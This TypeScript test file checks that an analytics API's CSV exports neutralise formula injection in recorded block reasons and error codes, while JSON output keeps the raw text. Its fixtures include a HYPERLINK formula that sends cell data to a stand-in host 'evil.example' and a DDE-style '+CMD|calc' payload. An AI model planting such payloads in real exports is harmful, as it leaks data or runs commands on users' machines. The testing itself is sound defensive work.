import { parse } from 'csv-parse/sync';
import { toRawRow } from '../../services/aggregator/event-row';
import type { CairnEvent } from '../../lib/contracts/events/event-types';
import { emailEvent, tileEvent } from '../aggregator/aggregator-harness';
import { client, createWorkspace, startApiKit, type ApiKit } from './api-test-kit';

/**
 * Issue 20, defect 12: text from events (reasons, error codes) reaches the CSV exports; a cell a spreadsheet would
 * run as a formula must come out neutralised (a leading single quote) in every CSV endpoint, numbers untouched.
 */
let kit: ApiKit;
let api: ReturnType<typeof client>;
let workspaceId: string;

beforeAll(async () => {
  kit = await startApiKit();
  const ws = await createWorkspace(kit, 'csv-injection');
  workspaceId = ws.id;
  api = client(kit, ws.key);
});
afterAll(async () => {
  await kit.close();
});

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
const AT = Date.UTC(2026, 2, 1, 12);

async function insert(events: CairnEvent[], topic: string): Promise<void> {
  await kit.env.clickhouse.insert(
    'events_ingest',
    events.map((event, i) => ({ ...toRawRow(event), kafka_topic: topic, kafka_partition: 0, kafka_offset: i })),
  );
}

const rowsOf = (body: string): string[][] => (parse(body) as string[][]).slice(1);

describe('CSV exports neutralise formula-like text (defect 12)', () => {
  it('recipients.csv: block reasons and error codes', async () => {
    const email = (await api('POST', '/v1/emails', { name: 'csv' })).json().id;
    const at = (m: string, extra: Record<string, unknown>) => ({
      workspace_id: workspaceId,
      email_id: email,
      journey_id: 'j',
      message_id: m,
      contact_id: `c-${m}`,
      event_time: AT,
      ...extra,
    });
    await insert(
      [
        emailEvent('blocked', at('m1', { reason: HYPERLINK })),
        emailEvent('sending_failed', at('m2', { error_code: '+CMD|calc' })),
        emailEvent('sending_failed', at('m3', { error_code: '@SUM(1)' })),
      ],
      'csv-email',
    );

    const blocked = await api('GET', `/v1/insights/emails/${email}/recipients.csv?kpi=blocked`);
    expect(blocked.statusCode).toBe(200);
    expect(rowsOf(blocked.body)).toEqual([
      ['c-m1', 'm1', '2026-03-01 12:00:00', '2026-03-01 12:00:00', '1', '1', `'${HYPERLINK}`],
    ]);
    const failed = await api('GET', `/v1/insights/emails/${email}/recipients.csv?kpi=sending_failed`);
    expect(rowsOf(failed.body).map((row) => row[6])).toEqual(["'+CMD|calc", "'@SUM(1)"]);
    // the JSON list is data, not a spreadsheet: it keeps the text as it was recorded
    expect((await api('GET', `/v1/insights/emails/${email}/recipients?kpi=blocked`)).json().items[0].details).toEqual([
      HYPERLINK,
    ]);
  });

  it('tile contacts.csv: block reasons and error codes', async () => {
    const journey = (
      await api('POST', '/v1/journeys', {
        name: 'csv',
        graph: { tiles: [{ id: 'S', type: 'segment', next: [], config: {} }] },
      })
    ).json().id;
    const tile = (contact: string, extra: Record<string, unknown>) => ({
      workspace_id: workspaceId,
      journey_id: journey,
      tile_id: 'S',
      tile_type: 'segment',
      contact_id: contact,
      iteration: 1,
      event_time: AT,
      ...extra,
    });
    await insert(
      [
        tileEvent('tile_blocked', tile('c1', { reason: HYPERLINK })),
        tileEvent('tile_failed', tile('c2', { error_code: '-1+1' })),
        tileEvent('tile_failed', tile('c3', { error_code: '\t=1' })),
      ],
      'csv-tile',
    );

    const base = `/v1/insights/journeys/${journey}/tiles/S/contacts.csv`;
    const blocked = await api('GET', `${base}?state=blocked`);
    expect(blocked.statusCode).toBe(200);
    expect(rowsOf(blocked.body)).toEqual([['c1', '1', '2026-03-01 12:00:00', `'${HYPERLINK}`]]);
    expect(rowsOf((await api('GET', `${base}?state=failed`)).body).map((row) => row[3])).toEqual(["'-1+1", "'\t=1"]);
  });
});
